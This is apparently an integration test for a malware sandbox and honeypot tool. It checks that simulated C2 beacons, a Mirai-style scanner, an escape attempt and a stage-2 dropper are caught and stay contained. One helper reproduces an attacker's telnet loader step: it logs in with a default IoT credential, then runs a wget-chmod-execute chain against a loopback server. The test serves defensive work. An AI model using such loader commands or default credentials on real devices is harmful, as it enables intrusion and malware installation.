#!/usr/bin/env python3
"""`kansoku sandbox analyze` and `sandbox triage` on the team's test programs (issue 5).

The whole test re-executes itself inside an outer network namespace with only loopback (`unshare -n`),
so even a broken jail could not send a packet anywhere. Checks:
- c2_beacon (x86-64 under ptrace, ARM under qemu): a sandbox.report event; the DNS query to the
  hard-coded resolver 192.0.2.53 and the C2 hello are recorded;
- syn_scanner: the scan signature with the Mirai fingerprint on ports 23/2323;
- escape: a listener on the outer namespace's loopback receives nothing; the host files are unchanged;
- triage of every x86-64/ARM/MIPS program: hashes, arch, and YARA matches of our test-sample rules;
- honeypot -> sandbox: a telnet loader's download is analysed under the attacker's name and argument;
- the sample pipeline: a loader's daemon_renamer is triaged (its `sample` event carries ssdeep, TLSH
  and the YARA match; <sha256>.triage.json beside it), run (<sha256>.sandbox.json), and the script it
  drops is stored as a new sample (source sandbox_drop, parent) and goes the same way; after a
  restart, the store's samples without their documents are picked up again, the others left alone;
- bad input: a missing file gives one line and exit 1.
"""

import json
import os
import socket
import sys
import threading
import time
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))
import honeypot_lab as hl  # noqa: E402
import integ_common as ic  # noqa: E402


def samples_dir(binary: str) -> Path:
    # The samples are built next to the binary: <build>/tests/samples/bin/<arch>/<name>.
    return Path(binary).resolve().parent / "tests" / "samples" / "bin"


def analyze(binary: str, sample: Path, *extra) -> tuple:
    result = ic.run(["unshare", "-n", "sh", "-c", 'ip link set lo up && exec "$@"', "sh",
                     binary, "sandbox", "analyze", str(sample), "--timeout", "6", *extra], timeout=120)
    event = None
    for line in result.stdout.splitlines():
        if line.startswith("{"):
            event = json.loads(line)
    return result, event


def signature(event: dict, sig_id: str):
    for sig in (event or {}).get("signatures", []):
        if sig.get("id") == sig_id:
            return sig
    return None


def run_loader(lab: hl.HoneypotLab, payload: bytes, name: str, args: str, wait_until, timeout: float) -> list:
    """Starts the honeypot; a telnet loader fetches `payload` from a loopback server into /tmp/NAME and runs it
    as `./NAME ARGS`. Returns the events once wait_until(events) holds (or at `timeout`); the honeypot is stopped."""
    server = hl.SampleServer({"/bins/payload": payload})
    try:
        lab.start()
        client = hl.TelnetClient("127.0.0.1", lab.ports["telnet"])
        client.login("root", "xc3511")
        client.line(f"cd /tmp; wget http://127.0.0.1:{server.port}/bins/payload -O {name}; chmod 777 {name}; "
                    f"./{name} {args}")
        client.read_until(hl.PROMPT)
        client.close()
        return lab.wait_for_events(wait_until, timeout)
    finally:
        server.stop()
        lab.stop()


def honeypot_to_sandbox(binary: str, bins: Path, checks: ic.Checks) -> None:
    """A telnet loader fetches c2_beacon from a loopback server and runs it as `./.c 2`: the honeypot
    stores it and the sandbox analyses it under that name and argument (a sandbox.report for its SHA-256)."""
    payload = (bins / "x86_64" / "c2_beacon").read_bytes()
    sha = hl.sha256_of(payload)
    work = ic.make_temp_dir("kansoku-hp-sandbox-")
    lab = hl.HoneypotLab(binary, work, {"sandbox": {"enabled": True, "timeout": "4s"}})
    events = run_loader(lab, payload, ".c", "2",
                        lambda ev: any(e.get("sha256") == sha for e in ic.of_type(ev, "sandbox.report")), 40)
    reports = [e for e in ic.of_type(events, "sandbox.report") if e.get("sha256") == sha]
    checks.check(len(reports) == 1, "honeypot -> sandbox: the downloaded sample gets one sandbox.report",
                 lab.stderr_text[-1000:])
    dns = reports[0].get("network", {}).get("dns", []) if reports else []
    checks.check(any(q.get("resolver") == "192.0.2.53" for q in dns),
                 "honeypot -> sandbox: the run saw the sample's DNS query (it ran with the attacker's argument)")
    ic.remove_temp_dir(work)


def sample_pipeline(binary: str, bins: Path, checks: ic.Checks) -> None:
    payload = (bins / "x86_64" / "daemon_renamer").read_bytes()
    sha = hl.sha256_of(payload)
    work = ic.make_temp_dir("kansoku-hp-pipeline-")
    overrides = {"sandbox": {"enabled": True, "timeout": "4s"}}
    lab = hl.HoneypotLab(binary, work, overrides)

    def dropped(events):
        return [e for e in ic.of_type(events, "sample")
                if any(src.get("kind") == "sandbox_drop" and src.get("parent") == sha for src in e.get("sources", []))]

    # The drop's own run comes last: wait for its sandbox.report.
    events = run_loader(lab, payload, ".d", "1",
                        lambda ev: dropped(ev) and any(r.get("sha256") == dropped(ev)[0].get("sha256")
                                                       for r in ic.of_type(ev, "sandbox.report")), 60)
    mine = [e for e in ic.of_type(events, "sample") if e.get("sha256") == sha]
    checks.check(len(mine) == 1, f"pipeline: one sample event for the download ({len(mine)})", lab.stderr_text[-1500:])
    event = mine[0] if mine else {}
    checks.check(event.get("ssdeep", "").count(":") == 2 and event.get("tlsh", "").startswith("T1")
                 and len(event.get("tlsh", "")) == 72,
                 f"pipeline: the sample event carries ssdeep and TLSH ({event.get('ssdeep')}, {event.get('tlsh')})")
    checks.check("kansoku_test_daemon_renamer" in event.get("yara", []),
                 f"pipeline: the sample event names its YARA match ({event.get('yara')})")
    source = (event.get("sources") or [{}])[0]
    checks.check(source.get("path") == "/tmp/.d", f"pipeline: the record keeps where the attacker put it ({source})")
    store = lab.samples_dir() / sha[:2]
    triage_doc = store / f"{sha}.triage.json"
    sandbox_doc = store / f"{sha}.sandbox.json"
    triage = json.loads(triage_doc.read_text()) if triage_doc.exists() else {}
    report = json.loads(sandbox_doc.read_text()) if sandbox_doc.exists() else {}
    checks.check(triage.get("sha256") == sha and triage.get("tlsh") == event.get("tlsh"),
                 "pipeline: <sha256>.triage.json is the full triage report")
    checks.check(report.get("sha256") == sha and report.get("verdict") == "malicious"
                 and any(s.get("id") == "self_deletion" for s in report.get("signatures", [])),
                 f"pipeline: <sha256>.sandbox.json is the full behaviour report ({report.get('verdict')})")
    drops = dropped(events)
    checks.check(len(drops) == 1, f"pipeline: the dropped script is stored as a new sample ({len(drops)})")
    drop = drops[0] if drops else {}
    drop_sha = drop.get("sha256", "")
    drop_source = next((s for s in drop.get("sources", []) if s.get("kind") == "sandbox_drop"), {})
    checks.check(drop_source.get("path") == "/tmp/.kansoku_stage2.sh" and drop.get("tlsh", "").startswith("T1"),
                 f"pipeline: the drop records its path in the jail and is triaged ({drop_source})")
    drop_file = lab.samples_dir() / drop_sha[:2] / drop_sha if drop_sha else None
    checks.check(drop_file is not None and drop_file.exists() and drop_file.read_bytes().startswith(b"#!/bin/sh")
                 and (drop_file.stat().st_mode & 0o111) == 0,
                 "pipeline: the dropped file is in the store, never executable")
    checks.check(any(r.get("sha256") == drop_sha for r in ic.of_type(events, "sandbox.report")),
                 "pipeline: the dropped file is run in the sandbox too")

    # Restart: the drop loses its triage document (as if the process had died before writing it);
    # the new process triages it again and leaves the download, which has both documents, alone.
    if drop_sha:
        (lab.samples_dir() / drop_sha[:2] / f"{drop_sha}.triage.json").unlink()
    before = len(ic.of_type(lab.events(), "sample"))
    lab = hl.HoneypotLab(binary, work, overrides)
    try:
        lab.start()
        events = lab.wait_for_events(lambda ev: len(ic.of_type(ev, "sample")) > before, 20)
        time.sleep(1)
    finally:
        lab.stop()
    again = ic.of_type(lab.events(), "sample")[before:]
    checks.check([e.get("sha256") for e in again] == [drop_sha],
                 f"resume: only the sample without its triage document is picked up again ({len(again)})")
    checks.check((lab.samples_dir() / drop_sha[:2] / f"{drop_sha}.triage.json").exists() if drop_sha else False,
                 "resume: its triage document is written again")
    resumed = lab.summary_value(r"(\d+) resumed from the store")
    checks.check(resumed == 1, f"resume: the summary counts one resumed sample ({resumed})")

    # `kansoku samples` over the same store.
    store_dir = str(lab.samples_dir())
    listed = ic.run([binary, "samples", "list", "--dir", store_dir, "--json"], timeout=30)
    rows = {r["sha256"]: r for r in ic.parse_jsonl(listed.stdout)} if listed.returncode == 0 else {}
    checks.check(set(rows) == {sha, drop_sha} and rows.get(sha, {}).get("sandbox", "").startswith("malicious")
                 and rows.get(sha, {}).get("tlsh") == event.get("tlsh"),
                 f"samples list: both samples, the download's verdict and digests ({listed.stderr.strip()[-300:]})")
    shown = ic.run([binary, "samples", "show", sha[:12], "--dir", store_dir, "--document", "sandbox", "--json"],
                   timeout=30)
    checks.check(shown.returncode == 0 and json.loads(shown.stdout or "{}").get("sha256") == sha,
                 "samples show: a unique prefix gives the behaviour report")
    record = ic.run([binary, "samples", "show", sha, "--dir", store_dir, "--json"], timeout=30)
    fields = json.loads(record.stdout or "{}") if record.returncode == 0 else {}
    checks.check(fields.get("sha256") == sha and fields.get("tlsh") == event.get("tlsh")
                 and fields.get("sources", [{}])[0].get("path") == "/tmp/.d",
                 f"samples show: the record, in the sample event's terms ({record.stderr.strip()[-200:]})")
    missing = ic.run([binary, "samples", "show", "00000000", "--dir", store_dir], timeout=30)
    checks.check(missing.returncode == 1 and len(missing.stderr.strip().splitlines()) == 1,
                 f"samples show: an unknown prefix is one line and exit 1 ({missing.stderr.strip()})")
    clustered = ic.run([binary, "samples", "cluster", "--dir", store_dir, "--json"], timeout=30)
    members = [m for c in ic.parse_jsonl(clustered.stdout) for m in c.get("members", [])]
    checks.check(clustered.returncode == 0 and sorted(members) == sorted([sha, drop_sha]),
                 f"samples cluster: every triaged sample in one cluster or another ({clustered.stderr.strip()})")
    ic.remove_temp_dir(work)


def main() -> int:
    binary = ic.kansoku_binary()
    ic.exit_on_signals()
    if os.geteuid() != 0:
        ic.skip("sandbox analysis needs root (user, PID, mount and network namespaces)")
    ic.reexec_in_outer_netns()
    bins = samples_dir(binary)
    if not (bins / "x86_64" / "c2_beacon").exists():
        ic.skip(f"test programs not built in {bins} (target kansoku_test_samples)")
    checks = ic.Checks()

    result, event = analyze(binary, bins / "x86_64" / "c2_beacon", "--args", "2")
    checks.check(result.returncode == 0 and event and event.get("type") == "sandbox.report",
                 "c2_beacon: one sandbox.report event", result.stderr[-800:])
    dns = (event or {}).get("network", {}).get("dns", [])
    checks.check(any(q.get("resolver") == "192.0.2.53" and q.get("qname") == "cnc.example.test" for q in dns),
                 f"c2_beacon: DNS to the hard-coded resolver recorded ({dns[:1]})")
    checks.check(signature(event, "dns_hardcoded_resolver") is not None and signature(event, "c2_contact"),
                 "c2_beacon: hard-coded resolver and C2 signatures with ATT&CK ids")
    hello = [c for c in (event or {}).get("network", {}).get("connections", [])
             if c.get("first_bytes_hex", "").startswith("00000001")]
    checks.check(bool(hello), "c2_beacon: the C2 hello's first bytes are recorded")

    arm = bins / "arm" / "c2_beacon"
    if arm.exists():
        result, event = analyze(binary, arm, "--args", "2")
        dns = (event or {}).get("network", {}).get("dns", [])
        checks.check(event is not None and event.get("arch") == "ARM" and
                     any(q.get("resolver") == "192.0.2.53" for q in dns),
                     "ARM c2_beacon under qemu: DNS to 192.0.2.53 seen by the fake network", result.stderr[-800:])
    else:
        print("skip  ARM c2_beacon: arm-linux-gnueabi-gcc was not installed when the samples were built")

    result, event = analyze(binary, bins / "x86_64" / "syn_scanner", "--args", "2")
    scan = signature(event, "network_scan") or signature(event, "scanning") or next(
        (s for s in (event or {}).get("signatures", []) if "T1046" in s.get("mitre", [])), None)
    profile = (event or {}).get("network", {}).get("scan", {})
    ports = {p.get("port") for p in profile.get("dst_ports", [])}
    checks.check(scan is not None and profile.get("tool") == "mirai" and {23, 2323} <= ports,
                 f"syn_scanner: scan signature (T1046), tool mirai, ports 23/2323 ({profile.get('tool')}, {ports})",
                 json.dumps(event)[:1500] if event else result.stderr[-800:])

    # The escape program tries the outer namespace's loopback: a listener there must see nothing.
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(8)
    listener.settimeout(0.2)
    accepted = []

    def accept_loop():
        while not stop.is_set():
            try:
                accepted.append(listener.accept())
            except OSError:
                pass

    stop = threading.Event()
    thread = threading.Thread(target=accept_loop, daemon=True)
    thread.start()
    passwd_before = Path("/etc/passwd").read_bytes()
    # The listener lives in this process's namespace, not in the one `analyze` creates, so the port is
    # given to a sample that could only reach it by escaping both namespaces.
    result, event = analyze(binary, bins / "x86_64" / "escape", "--args", "2", str(listener.getsockname()[1]))
    stop.set()
    thread.join(2)
    listener.close()
    checks.check(event is not None, "escape: still a report", result.stderr[-800:])
    checks.check(not accepted, "escape: the loopback listener received nothing")
    checks.check(Path("/etc/passwd").read_bytes() == passwd_before and not Path("/etc/passwd-kansoku").exists(),
                 "escape: host files unchanged")

    result, event = analyze(binary, bins / "x86_64" / "idle")
    checks.check(event is not None and event.get("verdict") == "clean", "idle: a report with verdict clean")

    programs = sorted(p for p in bins.glob("*/*") if p.is_file())
    result = ic.run([binary, "sandbox", "triage", "--json", *map(str, programs)], timeout=300)
    reports = [json.loads(line) for line in result.stdout.splitlines() if line.startswith("{")]
    checks.check(result.returncode == 0 and len(reports) == len(programs),
                 f"triage: one report per program ({len(reports)} of {len(programs)})", result.stderr[-500:])
    arches = {r.get("arch") for r in reports}
    names = {"x86_64": "x86-64", "arm": "ARM", "mips": "MIPS", "mipsel": "MIPSEL", "aarch64": "AArch64",
             "powerpc": "PowerPC", "i686": "x86", "armeb": "ARMEB"}
    built = {names.get(d.name, d.name) for d in bins.iterdir() if d.is_dir()}
    checks.check(arches == built, f"triage: the architecture of every build ({sorted(arches)})")
    with_yara = [r for r in reports if r.get("yara")]
    checks.check(len(with_yara) >= len(programs) // 2, f"triage: YARA rules match the test programs "
                 f"({len(with_yara)} of {len(programs)})")

    honeypot_to_sandbox(binary, bins, checks)
    sample_pipeline(binary, bins, checks)

    missing = ic.run([binary, "sandbox", "analyze", "/nonexistent/sample"], timeout=30)
    checks.check(missing.returncode == 1 and len(missing.stderr.strip().splitlines()) == 1,
                 f"a missing sample: one line, exit 1 ({missing.stderr.strip()})")
    return checks.exit_code()


if __name__ == "__main__":
    sys.exit(main())
